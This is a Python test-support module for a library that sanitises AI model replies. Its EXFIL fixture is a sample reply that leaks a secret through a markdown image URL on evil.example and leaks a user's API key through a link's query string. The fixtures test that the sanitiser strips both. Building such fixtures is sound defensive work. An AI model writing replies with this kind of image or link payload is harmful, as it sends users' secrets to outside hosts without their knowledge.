"""What the framework adapters' tests share: the replies, the conversation, the audit.

EXFIL carries a secret in an image (removed whatever the conversation) and a key in a
link that only the conversation shows is the user's (removed only when the adapter
hands the conversation over): `expected(EXFIL)` is what the one-shot `sanitize()` makes
of it with CONVERSATION, and differs from what it makes without it. HONEST is left
byte for byte. `pieces` cuts a reply so that the image is split across chunks.
"""

from __future__ import annotations

import importlib
import json
import os
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from rendersafe import Policy, Sanitizer, sanitize
from rendersafe.audit import AuditLog, AuditRecord, JsonlSink
from rendersafe.conversation import ConversationLike

# CI installs every framework and sets this, so their tests cannot be skipped there.
REQUIRED = os.environ.get("REQUIRE_INTEGRATIONS") == "1"

SECRET = "c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA"
TOKEN = "Zq7mK2pX9wLt"  # a key the reply-only judgement alone lets pass
USER_SAYS = f"My API key is {TOKEN}. Chart my usage, please."
CONVERSATION: list[dict[str, Any]] = [{"role": "user", "content": USER_SAYS}]
EXFIL = (
    f"Here is the chart: ![weekly chart](https://evil.example/c.png?d={SECRET}) "
    f"and [the docs](https://docs.jsontools.example/ref?t={TOKEN}) now."
)
HONEST = (
    "Sure. Here is **the plan**, with `code` and a [link](https://docs.python.org/3/).\n\n"
    "```python\nprint('![x](https://evil.example/?q=1)')\n```\n\n1. one\n2. two\n"
)


def need(name: str) -> ModuleType:
    """The module `name`; the test is skipped without it (failed, where CI requires it)."""
    try:
        return importlib.import_module(name)
    except ImportError:
        if REQUIRED:
            pytest.fail(f"{name} is not installed and REQUIRE_INTEGRATIONS=1")
        pytest.skip(
            f"{name} is not installed (see .ci/run for the extras)", allow_module_level=True
        )


def expected(reply: str, conversation: ConversationLike = CONVERSATION) -> str:
    """What the one-shot sanitiser makes of `reply`, judged with `conversation`."""
    return sanitize(reply, conversation=conversation)


def pieces(text: str, size: int = 5) -> list[str]:
    """`text` in chunks of `size` characters: EXFIL's image falls across several."""
    return [text[i : i + size] for i in range(0, len(text), size)]


def check_exfil(text: str) -> None:
    """`text` is EXFIL sanitised with the conversation: neither secret is left."""
    assert text == expected(EXFIL)
    assert SECRET not in text
    assert TOKEN not in text
    assert expected(EXFIL, None) != text  # the conversation made the difference


class Audit:
    """A sanitiser writing its audit log to a JSONL file."""

    def __init__(self, path: Path, policy: Policy | None = None) -> None:
        self.path = path
        self.log = AuditLog([JsonlSink(str(path))])
        self.sanitizer = Sanitizer(policy, audit=self.log)

    def records(self) -> list[dict[str, Any]]:
        """Every record written so far."""
        self.log.flush()
        if not self.path.exists():
            return []
        return [json.loads(line) for line in self.path.read_text().splitlines() if line]

    def findings(self, integration: str) -> list[dict[str, Any]]:
        """The findings an adapter recorded, named by its integration."""
        return [
            r
            for r in self.records()
            if r["event"] == "finding" and r.get("context", {}).get("integration") == integration
        ]


def broken_sanitizer() -> Sanitizer:
    """A sanitiser whose policy requires an audit log that cannot be written."""

    def full(record: AuditRecord) -> None:
        raise OSError(28, "No space left on device")

    log = AuditLog([full])
    sanitizer = Sanitizer(Policy(audit_required=True), audit=log)
    sanitizer.run("![x](https://evil.example/x.png)")  # a record the log fails to write
    log.flush()
    assert log.broken
    return sanitizer
